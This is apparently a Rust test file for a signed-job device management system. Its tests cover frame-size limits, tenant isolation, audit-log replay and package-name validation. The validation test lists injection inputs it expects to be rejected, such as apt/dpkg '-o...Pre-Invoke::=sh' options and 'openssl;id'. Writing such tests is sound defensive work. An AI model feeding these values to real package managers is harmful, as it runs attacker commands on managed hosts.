/// many package names at the cap, a reason at its cap, signed by the most
/// passkey approvals of the largest size. Its statement fits the payload
/// cap, its envelope decodes on the agent, and the job frame carrying it
/// with the largest script and log proof fits the agent's frame limit: a
/// job that passes the server is never one the agent drops unread (and is
/// sent again, forever). The caps are one computation
/// (`bulwark_protocol::limits::statement`); this fails if one of them, or
/// a job's fields, change without the others.
#[test]
fn the_largest_job_the_server_accepts_fits_the_agents_frame() {
    use bulwark_policy::webauthn::{
        MAX_AUTHENTICATOR_DATA, MAX_CLIENT_DATA_JSON, MAX_SIGNATURE, WebAuthnSignature,
    };
    use bulwark_protocol::message::{Job, LogProof, ServerMessage};
    let limits = Limits::default();
    let wire = bulwark_protocol::Limits::default();
    let text = |c: char| c.to_string().repeat(limits.max_text);
    let mut statement = job(ActionClass::InstallPatches, &[], b"");
    statement.tenant = text('t');
    statement.tenant_name = text('n');
    statement.reason = "r".repeat(4096);
    statement.targets = (0..limits.max_targets)
        .map(|i| {
            let mut device_id = format!("{i:08}");
            device_id.push_str(&"d".repeat(limits.max_text - 8));
            JobTarget {
                device_id,
                hostname: text('h'),
                device_key: Some([0xee; 32]),
            }
        })
        .collect();
    statement.action = JobAction::InstallPatches {
        packages: vec![text('p'); limits.max_targets],
    };
    assert_eq!(statement.validate(&limits), Ok(()));
    let payload = bulwark_protocol::codec::to_canonical(&statement);
    assert!(
        payload.len() <= limits.max_payload_bytes,
        "a job to every target: {} > {}",
        payload.len(),
        limits.max_payload_bytes
    );
    let mut envelope = Signed {
        payload_type: <JobStatement as bulwark_policy::envelope::Statement>::PAYLOAD_TYPE.into(),
        payload,
        signatures: Vec::new(),
    };
    assert_eq!(envelope.statement::<JobStatement>(&limits), Ok(statement));
    // The other statements have the same cap: the largest payload of any.
    envelope.payload.resize(limits.max_payload_bytes, 0xa5);
    for i in 0..limits.max_signatures {
        envelope.add_webauthn(
            bulwark_policy::KeyId([u8::try_from(i).unwrap_or(0); 32]),
            WebAuthnSignature {
                authenticator_data: vec![0xff; MAX_AUTHENTICATOR_DATA],
                client_data_json: vec![b'{'; MAX_CLIENT_DATA_JSON],
                signature: vec![0x30; MAX_SIGNATURE],
            },
        );
    }
    let bytes = envelope.to_bytes();
    assert_eq!(Signed::from_bytes(&bytes, &limits), Ok(envelope));
    assert!(
        bytes.len() <= wire.max_envelope_bytes,
        "{} > {}",
        bytes.len(),
        wire.max_envelope_bytes
    );
    let job = ServerMessage::Job(Job {
        envelope: bytes,
        script: vec![b'#'; wire.max_script_bytes],
        log: Some(LogProof {
            leaf: vec![7; wire.max_log_leaf_bytes],
            index: u64::MAX,
            checkpoint: "a".repeat(wire.max_note_bytes),
            inclusion: vec![1; 64 * 32],
            consistency_from: u64::MAX,
            consistency: vec![2; 64 * 32],
            witnessed_since: Some("b".repeat(wire.max_note_bytes)),
            witnessed_since_consistency: Some(vec![3; 64 * 32].into()),
        }),
    });
    let frame = bulwark_protocol::encode_server_frame(bulwark_protocol::PROTOCOL_VERSION, &job)
        .expect("encodes");
    assert!(
        frame.len() <= wire.max_server_frame_bytes,
        "{} > {}",
        frame.len(),
        wire.max_server_frame_bytes
    );
    assert_eq!(
        bulwark_protocol::decode_server_frame(&frame, &wire).map(|f| f.message),
        Ok(job)
    );
    // An agent of version 6 has the older cap: the server sends it no such frame.
    assert!(frame.len() > wire.server_frame_cap(6));
}

/// The server and the CLI replay a stored history with the agent's own
/// rules: a policy signed by this root's threshold for another tenant is
/// refused (the server's own replay once skipped that check), and so is a
/// first root for another tenant than the one asked for.
#[test]
fn a_stored_history_for_another_tenant_is_refused() {
    let k = keys();
    let limits = Limits::default();
    let first = signed(&root(&k), &[&k.root_a, &k.root_b]);
    let ours = signed(&policy(&k, 1), &[&k.root_a, &k.root_b]);
    let (history, refused) = TrustHistory::replay(
        "acme",
        None,
        std::slice::from_ref(&first),
        Some(&ours),
        None,
        &limits,
    );
    assert_eq!(refused, vec![]);
    assert_eq!(history.policy().map(|p| p.version), Some(1));
    let theirs = Policy {
        tenant: "globex".into(),
        ..policy(&k, 1)
    };
    let theirs = signed(&theirs, &[&k.root_a, &k.root_b]);
    let (history, refused) = TrustHistory::replay(
        "acme",
        None,
        std::slice::from_ref(&first),
        Some(&theirs),
        None,
        &limits,
    );
    assert_eq!(history.policy(), None);
    assert_eq!(
        refused,
        vec![TrustOutcome::Refused {
            kind: TrustKind::Policy,
            version: 1,
            refusal: Refusal::WrongTenant
        }]
    );
    let (history, refused) =
        TrustHistory::replay("globex", None, &[first], Some(&ours), None, &limits);
    assert_eq!(history.root(), None);
    assert_eq!(refused.len(), 2, "{refused:?}");
    assert_eq!(refused[0].refusal(), Some(&Refusal::WrongTenant));
    assert_eq!(refused[1].refusal(), Some(&Refusal::NoRoot));
}

/// What an auditor replays (issue 12): each trust statement the log says
/// was published, with the agents' rules from the pinned root, and each
/// released job against the policy in force then. A log whose tree is
/// sound but whose entries say what no agent would accept names the entry.
#[test]
fn auditors_replay_what_the_log_records() {
    use bulwark_policy::replay::{Statements, TrustReplay};
    use bulwark_protocol::audit_leaf::{AuditLeaf, JOB_RELEASED, job_released_detail};
    let k = keys();
    let limits = Limits::default();
    let leaf = |action: &str, target: &str, detail: &str| {
        AuditLeaf::new(
            i64::try_from(NOW * 1000).unwrap_or(0),
            Some("acme".into()),
            "operator",
            action,
            target,
            detail,
        )
    };
    let root_env = signed(&root(&k), &[&k.root_a, &k.root_b]);
    let pin = root_fingerprint(&root_env);
    let two = signed(
        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob],
    );
    let mut once = job(ActionClass::RunScript, &[DEVICE], SCRIPT);
    once.job_id = [8; 16];
    once.nonce = [8; 16];
    let once = signed(&once, &[&k.alice]);
    let id = |s: &Signed| {
        hex::encode(
            s.statement::<JobStatement>(&limits)
                .map(|j| j.job_id)
                .unwrap_or_default(),
        )
    };
    let mut statements = Statements::default();
    statements.roots.insert(1, root_env);
    statements
        .policies
        .insert(1, signed(&policy(&k, 1), &[&k.root_a, &k.root_b]));
    statements.jobs.insert(id(&two), two.clone());
    statements.jobs.insert(id(&once), once.clone());
    let released = |s: &Signed| leaf(JOB_RELEASED, &id(s), &job_released_detail(&s.digest()));
    let trust = [
        leaf("trust.root_published", "Acme v1", ""),
        leaf("trust.policy_published", "Acme v1", ""),
    ];
    let run = |pin: [u8; 32], statements: &Statements, more: Vec<AuditLeaf>| {
        let mut replay = TrustReplay::new("acme", pin);
        for (i, entry) in trust.iter().chain(more.iter()).enumerate() {
            replay
                .feed(i as u64, entry, statements)
                .map_err(|p| (p.index, p.code))?;
        }
        Ok(replay.released)
    };
    let requested = |s: &Signed| leaf("job.requested", &id(s), "");
    assert_eq!(
        run(pin, &statements, vec![requested(&two), released(&two)]),
        Ok(1)
    );
    // Released without ever being requested.
    assert_eq!(
        run(pin, &statements, vec![released(&two)]),
        Err((2, "release_without_request"))
    );
    // Released with one signature where the policy asks two.
    assert_eq!(
        run(pin, &statements, vec![requested(&once), released(&once)]),
        Err((3, "quorum_not_met"))
    );
    // A release naming other signed bytes than the job's envelope.
    let mut other = released(&two);
    other.detail = job_released_detail(&once.digest());
    assert_eq!(
        run(pin, &statements, vec![requested(&two), other]),
        Err((3, "release_mismatch"))
    );
    // A history from a root the auditor did not pin.
    assert_eq!(run([0; 32], &statements, vec![]), Err((0, "root_refused")));
    // A policy the root threshold did not sign.
    let mut forged = statements.clone();
    forged
        .policies
        .insert(1, signed(&policy(&k, 1), &[&k.root_a]));
    assert_eq!(run(pin, &forged, vec![]), Err((1, "policy_refused")));
    // A freeze by the customer replays; an unfreeze by the customer alone
    // does not (only the root threshold unfreezes). A release while frozen
    // is no forgery: the server releases, every agent refuses.
    let freeze = |sequence, frozen| FreezeStatement {
        tenant: "acme".into(),
        sequence,
        frozen,
        reason: "incident".into(),
    };
    let mut frozen = statements.clone();
    frozen
        .freezes
        .insert(1, signed(&freeze(1, true), &[&k.root_customer]));
    frozen
        .freezes
        .insert(2, signed(&freeze(2, false), &[&k.root_customer]));
    assert_eq!(
        run(
            pin,
            &frozen,
            vec![
                leaf("trust.frozen", "Acme v1", ""),
                requested(&two),
                released(&two)
            ]
        ),
        Ok(1)
    );
    assert_eq!(
        run(
            pin,
            &frozen,
            vec![
                leaf("trust.frozen", "Acme v1", ""),
                leaf("trust.unfrozen", "Acme v2", ""),
            ]
        ),
        Err((3, "freeze_refused"))
    );
    // A job signed for a device under a key its enrolment entry does not
    // name: the server steered the operator to a key it controls.
    let mut keyed = job(ActionClass::RunScript, &[DEVICE], SCRIPT);
    keyed.job_id = [5; 16];
    keyed.targets[0].device_key = Some(DEVICE_KEY);
    let keyed = signed(&keyed, &[&k.alice, &k.bob]);
    let mut with_keyed = statements.clone();
    with_keyed.jobs.insert(id(&keyed), keyed.clone());
    let enrolled = |key: [u8; 32]| {
        leaf(
            "device.enrolled",
            DEVICE,
            &format!(
                "hostname={HOST} agent_version=0.1.0 key={} token_created_by=alice",
                hex::encode(key)
            ),
        )
    };
    assert_eq!(
        run(
            pin,
            &with_keyed,
            vec![enrolled(DEVICE_KEY), requested(&keyed), released(&keyed)]
        ),
        Ok(1)
    );
    assert_eq!(
        run(
            pin,
            &with_keyed,
            vec![enrolled([0x66; 32]), requested(&keyed), released(&keyed)]
        ),
        Err((4, "target_key_not_enrolled"))
    );
    // One device id enrolled twice under two keys.
    assert_eq!(
        run(
            pin,
            &with_keyed,
            vec![enrolled(DEVICE_KEY), enrolled([0x66; 32])]
        ),
        Err((3, "device_key_changed"))
    );
}

/// A signed package name reaches apt's command line on the agent: only
/// Debian's grammar passes (step 2), so none can be an option or two words.
#[test]
fn install_patches_names_follow_debians_grammar() {
    use bulwark_policy::job::is_package_name;
    for good in [
        "openssl",
        "libssl3",
        "g++",
        "libc6:i386",
        "linux-image-6.1.0-30-amd64",
        "0ad",
        "x2",
    ] {
        assert!(is_package_name(good), "{good}");
    }
    for bad in [
        "",
        "a",
        "-y",
        "--reinstall",
        "-oAPT::Update::Pre-Invoke::=sh",
        ".hidden",
        "+x",
        "OpenSSL",
        "open ssl",
        "openssl;id",
        "openssl\n",
        "libc6:",
        "libc6:-x",
        "a:b:c",
        "pkg/stable",
        "pkg=1.0",
        "ünicode",
    ] {
        assert!(!is_package_name(bad), "{bad:?}");
    }
    let mut statement = job(ActionClass::InstallPatches, &[DEVICE], b"");
    statement.action = JobAction::InstallPatches {
        packages: vec!["openssl".into(), "-oDpkg::Pre-Invoke::=id".into()],
    };
    assert!(matches!(
        statement.validate(&Limits::default()),
        Err(Refusal::Malformed(_))
    ));
}
